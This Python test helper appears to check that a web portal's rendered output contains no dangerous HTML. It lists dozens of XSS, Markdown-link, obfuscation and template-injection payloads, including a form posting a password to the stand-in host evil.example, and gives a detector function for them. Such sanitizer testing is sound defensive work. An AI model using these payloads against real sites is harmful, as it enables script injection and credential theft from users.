"""Texts that would do harm if they were let through, and what must not be on any answer."""

import re
from urllib.parse import urlsplit

from bs4 import BeautifulSoup, Tag

HOSTILE = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "--><script>alert(1)</script><!--",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "<svg/onload=alert(1)>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example/x)",
    "[x](/\\evil.example/x)",
    "[x](\\\\evil.example/x)",
    "[x](/%5Cevil.example)",
    "[x](/\t/evil.example)",
    "[x](</\n/evil.example>)",
    "[x](/&#9;/evil.example)",
    "[x](/&Tab;/evil.example)",
    "[x](&sol;&sol;evil.example)",
    "[x](.//evil.example)",
    "[x](/a/..//evil.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: //evil.example\n\n[x]",
    "[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<//evil.example>",
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "![x](/\\evil.example/x.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x" onerror="alert(1)](/static/x.png "t\\" onerror=\\"alert(1)")',
    '[x](https://good.example "t\\" onmouseover=\\"alert(1)")',
    '[x](https://good.example"onmouseover=alert(1))',
    '```"><script>alert(1)</script>\nx\n```',
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <svg/onload=alert(1)> | y |",
    "{{ 7*7 }}{% raw %}{{ config }}{% endraw %}",
    "%(town)s %s %n {0.__class__}",
    "${7*7}#{7*7}",
    "\u202e\u2066<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<ScRiPt\n>alert(1)</sCrIpT\n>",
    "<div id=side-name name=forms style=position:fixed>x</div>",
)

HANDFULS = [HOSTILE[first::5] for first in range(5)]
"""All of them, by the handful: enough to a page."""

_ACTIVE = ("iframe", "object", "embed", "applet", "base", "frame", "frameset", "style", "math")
_LOADS = {"src", "srcset", "poster", "background", "action", "formaction", "ping", "data"}
_SCHEMES = {"", "http", "https", "mailto", "tel", "sms"}
_LEADS_AWAY = re.compile(r"[\s\x00-\x20]*[/\\][\s\x00-\x20]*[/\\]")


def harms(html: str, is_whole: bool = True) -> list[str]:
    """Give the elements of a page, or of a piece of one, that run, load or lead where none may."""
    page = BeautifulSoup(html, "html5lib")
    found = [element for element in page.find_all(True) if _is_harmful(element)]
    if not is_whole:
        found += page.select("form, input, meta, link, button, svg")
    return [str(element)[:200] for element in found]


def _is_harmful(element: Tag) -> bool:
    if element.name in _ACTIVE and not (element.name == "style" and _is_ours(element)):
        return True
    if element.name == "script" and (element.get_text(strip=True) or not _own(element.get("src"))):
        return True
    if element.name == "meta" and str(element.get("http-equiv", "")).lower() == "refresh":
        return True
    return any(_is_bad(element.name, name, str(value)) for name, value in element.attrs.items())


def _is_ours(style: Tag) -> bool:
    return style.parent is not None and style.parent.name == "head" and "evil" not in style.text


def _is_bad(element: str, name: str, value: str) -> bool:
    if name.startswith("on") or name in ("srcdoc", "style"):
        return True
    if name in _LOADS or (element == "link" and name == "href" and "static" in value):
        return not all(_own(each.split()[0]) for each in value.split(",") if each.strip())
    if name in ("href", "xlink:href"):
        bare = re.sub(r"[\x00-\x20]", "", value)
        return bool(_LEADS_AWAY.match(value)) or urlsplit(bare).scheme.lower() not in _SCHEMES
    return False


def _own(address: object) -> bool:
    """Tell whether an address is of this site."""
    text = str(address or "").removeprefix("https://portal.test")
    return text.startswith(("/", "#", "?")) and not _LEADS_AWAY.match(text)
